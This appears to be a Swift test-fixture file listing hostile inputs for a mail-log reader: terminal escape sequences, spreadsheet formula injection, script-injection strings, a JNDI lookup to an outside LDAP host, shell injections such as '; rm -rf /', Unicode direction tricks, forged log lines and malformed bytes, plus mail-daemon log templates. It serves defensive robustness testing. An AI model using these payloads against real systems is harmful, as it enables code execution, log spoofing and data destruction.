/// Text that a stranger may put wherever he can choose words, to do harm where they are shown: the one list of it.
public enum Payloads {
  /// For terminals, browsers, spreadsheets, JSON and Markdown readers.
  public static let ofOutput: [String] = [
    "\u{1B}[2J\u{1B}]0;owned\u{7}", "a\nb\rc", "\u{9B}31m", "\u{90}q\u{9C}", "\0", "=cmd|' /C calc'!A0", "+1+1",
    "-2+3", "@SUM(A1)", "＝1+1", "\t=1+1", "x;=1+1", "\u{202E}gpj.exe", "\u{2066}x\u{2069}", "\u{61C}\u{200F}x",
    "a\u{200B}b\u{AD}c", "x\u{E0041}\u{E007F}", "x\u{FFF9}y\u{FFFB}", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "'\"><svg onload=alert(1)>", "</title></code></style><script>alert(1)</script>",
    "&lt;b&gt;", "<!-- ", "](javascript:alert(1))", "[x](https://203.0.113.9/)", "![x](https://203.0.113.9/x.png)",
    "https://203.0.113.9/x www.example.org", "```\n# owned", "``` # owned", "| a | b |", "@everyone", "#1", "\u{2028}",
    "\u{7F}", "\"quoted\", \\", "\u{FEFF}x", "\"},{\"event.code\":\"uw-imap.login\"", "\\u0000", "#012owned#033[2J",
    "${jndi:ldap://203.0.113.9/x}", "%n%n%s", "; rm -rf /", "$(reboot)", "`reboot`", "--help",
  ]

  /// For whoever reads logs: what a daemon writes, imitated in a name.
  public static let ofLogs: [String] = [
    "x host=[192.0.2.1]", "x] host=[192.0.2.1] nmsgs=1/1", "x from [192.0.2.1]", "x, rip=192.0.2.1, lip=192.0.2.2",
    "x#012Nov 24 10:00:00 mail postfix/smtpd[9]: connect from unknown[192.0.2.1]",
    "x#012<22>Nov 24 10:00:00 mail sshd[9]: Failed password for root from 192.0.2.1 port 22 ssh2",
    "Nov 24 10:00:00 mail ipop3d[9]: Login user=root host=[192.0.2.1] nmsgs=1/1", "4F1A2B3C4D: removed",
    "NOQUEUE: reject",
    "x>, relay=mx[192.0.2.1]:25, dsn=2.0.0, status=sent (250 ok)", "x> to=<y> helo=<z>", "=?utf-8?q?x?=",
    String(repeating: "a", count: 79) + " host=[192.0.2.1]", String(repeating: "é", count: 40),
    "x (given password: y) host=[192.0.2.1]", "x, ip=[192.0.2.1]", "x [192.0.2.1]", "x) [192.0.2.1]:25 I=[192.0.2.2]",
    "x, relay=mx [192.0.2.1], reject=550", "x result=ok address=192.0.2.1", "x> from=<y>, size=1, nrcpt=1",
    // A letter of another script, and what turns the text round.
    "h\u{435}rmes", "\u{202E}semreh",
  ]

  /// All that can stand in one line of a log.
  public static let ofLines = (ofOutput + ofLogs).filter { !$0.contains("\n") }

  /// What is no text: bytes that are no UTF-8, of a set of one byte each and cut.
  public static let ofBytes: [[UInt8]] = [
    [0xFF, 0xFE, 0x61], [0xC3], [0xE2, 0x80], [0xC0, 0x8A], [0xED, 0xA0, 0x80], [0x9B, 0x33, 0x31, 0x6D], [0xF5, 0x80],
  ]

  /// A field of a million bytes.
  public static let long = [UInt8](repeating: UInt8(ascii: "A"), count: 1 << 20)

  /// What a daemon wrote about a client at 203.0.113.66 that could choose a word.
  public static func lines(_ payload: String, host: String = "mail") -> [String] {
    (refused + played).map { "Nov 24 10:00:00 \(host) " + $0.replacing(place, with: payload) }
  }

  /// The same of any bytes.
  public static func lines(_ payload: [UInt8], host: String = "mail") -> [[UInt8]] {
    let place = Array(place.utf8)
    return lines(Self.place, host: host).map { line in
      var result: [UInt8] = []
      var rest = Array(line.utf8)[...]
      while let found = rest.firstRange(of: place) {
        result += rest[..<found.lowerBound] + payload
        rest = rest[found.upperBound...]
      }
      return result + rest
    }
  }

  /// Stands where the stranger's word goes.
  private static let place = "\u{FFFC}"
  private static let client = "unknown[203.0.113.66]"

  private static let refused = [
    "ipop3d[101]: Login failed user=\u{FFFC} auth=\u{FFFC} host=[203.0.113.66]",
    "ipop3d[102]: Login user=\u{FFFC} host=[203.0.113.66] nmsgs=1/1",
    "imapd[111]: AUTHENTICATE \u{FFFC} invalid host=[203.0.113.66]",
    "dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<\u{FFFC}>, method=PLAIN, rip=203.0.113.66, lip=203.0.113.1, session=<583W4vtglYfGM2QO>",
    "dovecot: auth: passwd-file(\u{FFFC},203.0.113.66,<583W4vtglYfGM2QO>): unknown user",
    "postfix/smtpd[103]: warning: \(client): SASL LOGIN authentication failed: authentication failure, sasl_username=\u{FFFC}",
    "postfix/smtpd[103]: warning: non-SMTP command from \(client): \u{FFFC}",
    "postfix/smtpd[103]: TLS SNI \u{FFFC} from \(client) not matched, using default chain",
    "postfix/postscreen[109]: PREGREET 9 after 0.1 from [203.0.113.66]:4711: \u{FFFC}",
    "imapd: LOGIN FAILED, user=\u{FFFC}, ip=[::ffff:203.0.113.66]",
    "cyrus/imap[112]: badlogin: trap.example [203.0.113.66] plaintext (\u{FFFC}) [SASL(-13): authentication failure: checkpass failed]",
    "saslauthd[113]: do_auth         : auth failure: [user=\u{FFFC}] [service=smtp] [realm=] [mech=pam] [reason=PAM auth error]",
    "exim[114]: H=(\u{FFFC}) [203.0.113.66] F=<\u{FFFC}> rejected RCPT <\u{FFFC}>: relay not permitted",
    "exim[114]: login authenticator failed for (\u{FFFC}) [203.0.113.66]: 535 Incorrect authentication data (set_id=\u{FFFC})",
    "sendmail[115]: s1GNXHYB005133: ruleset=check_rcpt, arg1=<\u{FFFC}>, relay=trap.example [203.0.113.66], reject=550 5.7.1 <\u{FFFC}>... Relaying denied",
    "food[108]: \u{FFFC}",
  ]

  /// Two messages: one that a user sent to the stranger's server, one that he got from there.
  private static let played = [
    "ipop3d[121]: Login user=hermes host=[203.0.113.66] nmsgs=1/1",
    "postfix/smtpd[103]: NOQUEUE: reject: RCPT from \(client): 554 5.7.1 <\u{FFFC}>: Relay access denied; from=<\u{FFFC}> to=<\u{FFFC}> proto=ESMTP helo=<\u{FFFC}>",
    "postfix/smtpd[104]: AB12CD34EF: client=\(client), sasl_method=PLAIN, sasl_username=hermes",
    "postfix/cleanup[105]: AB12CD34EF: message-id=<\u{FFFC}>",
    "postfix/cleanup[105]: AB12CD34EF: warning: header Subject: \u{FFFC} from \(client); from=<a@example.com> to=<b@example.com> proto=ESMTP helo=<x>",
    "postfix/qmgr[106]: AB12CD34EF: from=<\u{FFFC}>, size=100, nrcpt=1 (queue active)",
    "postfix/smtp[107]: AB12CD34EF: to=<\u{FFFC}>, relay=mx.example.org[203.0.113.66]:25, delay=1, delays=0/0/0/1, dsn=5.1.1, status=bounced (host mx.example.org[203.0.113.66] said: 550 5.1.1 \u{FFFC} (in reply to RCPT TO command))",
    "postfix/qmgr[106]: AB12CD34EF: removed",
    "postfix/smtpd[104]: CD12AB34EF: client=\(client)",
    "postfix/cleanup[105]: CD12AB34EF: message-id=<\u{FFFC}@example.org>",
    "postfix/qmgr[106]: CD12AB34EF: from=<\u{FFFC}>, size=100, nrcpt=1 (queue active)",
    "postfix/local[110]: CD12AB34EF: to=<hermes@example.com>, orig_to=<\"\u{FFFC}\"@example.com>, relay=local, delay=1, delays=0/0/0/1, dsn=2.0.0, status=sent (delivered to mailbox)",
    "postfix/qmgr[106]: CD12AB34EF: removed",
  ]
}
